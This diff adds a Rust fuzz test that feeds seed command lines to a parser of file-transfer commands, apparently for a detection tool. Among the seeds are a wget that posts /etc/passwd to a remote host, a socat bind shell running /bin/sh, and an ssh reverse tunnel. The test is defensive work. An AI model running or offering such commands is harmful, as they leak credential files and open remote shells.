@@ -31,6 +31,38 @@ proptest! {
     }
 }
 
+#[test]
+fn fuzzed_command_lines_are_understood_or_left() {
+    let lines = [
+        "curl -sSL -H Accept:text/plain --connect-timeout 5 --output /tmp/tool https://u@h.example:8443/tool",
+        "wget -qO- --post-file=/etc/passwd http://10.0.0.2/x",
+        "rsync -avz -e ssh /data u@[fe80::1]:/in",
+        "scp -P 2222 -J jump a b u@h:/in",
+        "ssh -o ProxyCommand=x -R 8022:localhost:22 -D 1080 u@h cat",
+        "socat TCP4-LISTEN:80,fork EXEC:/bin/sh",
+        "openssl s_client -connect h:443 -quiet",
+        "aws --region eu-west-1 s3 cp f s3://b/k",
+        "az storage blob upload --account-name a --file f",
+        "gsutil -m cp -r d gs://b",
+        "rclone copy --config /c d remote:b",
+        "kubectl cp shop/web:/a b -c web",
+        "busybox ftpput -u u h remote local",
+    ];
+    let seeds = lines.map(|line| line.replace(' ', "\0").into_bytes());
+    crate::fuzz::run(&seeds, |bytes, dice| {
+        let text = crate::octet::text(bytes);
+        let words: Vec<String> = text.split('\0').map(str::to_owned).collect();
+        let image = format!("/usr/bin/{}", NAMES[dice.roll(NAMES.len())]);
+        let images = [image.as_str(), words[0].as_str()];
+        let Some(command) = understand(images[..=dice.roll(2)].iter().copied(), &words) else { return };
+        if let Some(transfer) = &command.transfer {
+            assert!(transfer.remotes.len() <= 16 && transfer.locals.len() <= 16);
+        }
+        // What is kept of a line is no multiple of it.
+        assert!(command.size() <= size_of::<Command>() + 4_096 + 64 * bytes.len(), "{words:?}");
+    });
+}
+
 /// The fastest of many rounds, in nanoseconds a line: what else the machine does is not in it.
 fn cost(line: &str) -> u128 {
     const LINES: u32 = 2_000;
